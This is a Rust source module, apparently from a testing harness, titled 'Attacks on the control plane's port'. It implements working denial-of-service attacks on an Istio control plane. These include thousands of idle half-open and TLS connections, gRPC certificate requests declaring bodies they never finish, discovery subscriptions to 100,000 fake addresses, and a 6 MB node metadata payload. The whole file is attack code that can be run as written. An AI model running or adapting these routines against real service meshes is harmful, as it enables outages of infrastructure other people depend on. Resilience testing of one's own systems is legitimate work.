//! Attacks on the control plane's port.
use super::attacker::{Target, in_parallel};
use super::{tls, world};
use anyhow::{Context as _, Result};
use bytes::{BufMut as _, Bytes, BytesMut};
use h2::client::SendRequest;
use http::Request;
use mesh_proto::discovery::{DeltaDiscoveryRequest, Node};
use prost::Message as _;
use rustls::ClientConfig;
use std::net::SocketAddr;
use std::sync::Arc;
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::TcpStream;

const ADDRESSES: &str = "type.googleapis.com/istio.workload.Address";
const TABLES: &str = "/envoy.service.discovery.v3.AggregatedDiscoveryService/DeltaAggregatedResources";
const CERTIFICATES: &str = "/istio.v1.auth.IstioCertificateService/CreateCertificate";

fn control_plane() -> Result<SocketAddr> {
    world::CONTROL_PLANE.trim_start_matches("https://").parse().context("the control plane's address")
}

/// Says nothing.
pub(super) async fn half_open(target: Target) -> Result<()> {
    let address = control_plane()?;
    in_parallel(4_000, target, async move |target: &Target| {
        let Ok(mut stream) = TcpStream::connect(address).await else { return target.count.failed() };
        target.count.begun();
        // Until it is closed.
        let _ = stream.read_u8().await;
    })
    .await;
    Ok(())
}

/// Says nothing more than TLS.
pub(super) async fn idle(target: Target) -> Result<()> {
    let (address, config) = (control_plane()?, tls::nobody()?);
    in_parallel(4_000, target, async move |target: &Target| {
        let Ok(mut stream) = tls::dial(address, &config).await else { return target.count.failed() };
        target.count.begun();
        let mut buffer = [0; 1024];
        while stream.read(&mut buffer).await.is_ok_and(|read| read > 0) {}
        let _ = stream.shutdown().await;
    })
    .await;
    Ok(())
}

async fn http2(address: SocketAddr, config: &Arc<ClientConfig>) -> Result<SendRequest<Bytes>> {
    let stream = tls::dial(address, config).await?;
    let (client, connection) = h2::client::handshake(stream).await?;
    tokio::task::spawn_local(async move {
        // It ends when the server has enough.
        let _ = connection.await;
    });
    Ok(client.ready().await?)
}

fn call(path: &str, token: Option<&str>) -> Result<Request<()>> {
    let mut request = Request::post(format!("https://istiod.istio-system.svc{path}"))
        .header("content-type", "application/grpc")
        .header("te", "trailers");
    if let Some(token) = token {
        request = request.header("authorization", format!("Bearer {token}"));
    }
    Ok(request.body(())?)
}

/// A gRPC message of which everybody knows the length and nobody sees the end.
pub(super) async fn requests(target: Target) -> Result<()> {
    let (address, config) = (control_plane()?, tls::nobody()?);
    in_parallel(8, target, async move |target: &Target| {
        let Ok(client) = http2(address, &config).await else { return target.count.failed() };
        let streams = (0..200).map(|_| async {
            let mut client = client.clone().ready().await?;
            let (answer, mut body) = client.send_request(call(CERTIFICATES, None)?, false)?;
            target.count.begun();
            let mut beginning = BytesMut::from(&[0, 0, 1, 0, 0][..]);
            beginning.resize(64_000, b'x');
            body.send_data(beginning.freeze(), false)?;
            answer.await?;
            anyhow::Ok(())
        });
        for result in futures_util::future::join_all(streams).await {
            if result.is_err() {
                target.count.failed();
            }
        }
    })
    .await;
    Ok(())
}

/// Sends `request` as the first of a stream, and listens.
async fn ask(
    target: &Target,
    address: SocketAddr,
    config: &Arc<ClientConfig>,
    request: &DeltaDiscoveryRequest,
) -> Result<()> {
    let mut client = http2(address, config).await?;
    let (answer, mut body) = client.send_request(call(TABLES, Some(&target.token))?, false)?;
    let message = request.encode_to_vec();
    let mut framed = BytesMut::with_capacity(message.len() + 5);
    framed.put_u8(0);
    framed.put_u32(u32::try_from(message.len())?);
    framed.put_slice(&message);
    let mut rest = framed.freeze();
    target.count.begun();
    while !rest.is_empty() {
        body.reserve_capacity(rest.len().min(1 << 20));
        let room = std::future::poll_fn(|cx| body.poll_capacity(cx)).await.context("the stream has ended")??;
        body.send_data(rest.split_to(room.min(rest.len())), false)?;
    }
    let mut heard = answer.await?.into_body();
    while let Some(data) = heard.data().await {
        let length = data?.len();
        heard.flow_control().release_capacity(length)?;
    }
    Ok(())
}

async fn repeated(streams: usize, target: Target, request: DeltaDiscoveryRequest) -> Result<()> {
    let (address, config) = (control_plane()?, tls::nobody()?);
    in_parallel(streams, target, async move |target: &Target| {
        if ask(target, address, &config, &request).await.is_err() {
            target.count.failed();
        }
    })
    .await;
    Ok(())
}

pub(super) async fn names(target: Target) -> Result<()> {
    let names =
        (0..100_000).map(|number| format!("nowhere/10.{}.{}.{}", number >> 16, number >> 8 & 255, number & 255));
    let request = DeltaDiscoveryRequest {
        type_url: ADDRESSES.into(),
        resource_names_subscribe: names.collect(),
        ..DeltaDiscoveryRequest::default()
    };
    repeated(8, target, request).await
}

pub(super) async fn metadata(target: Target) -> Result<()> {
    let text = prost_types::Value { kind: Some(prost_types::value::Kind::StringValue("x".repeat(6_000_000))) };
    let node = Node {
        id: "attacker".into(),
        metadata: Some(prost_types::Struct { fields: [("X".to_owned(), text)].into_iter().collect() }),
    };
    let request =
        DeltaDiscoveryRequest { node: Some(node), type_url: ADDRESSES.into(), ..DeltaDiscoveryRequest::default() };
    repeated(10, target, request).await
}
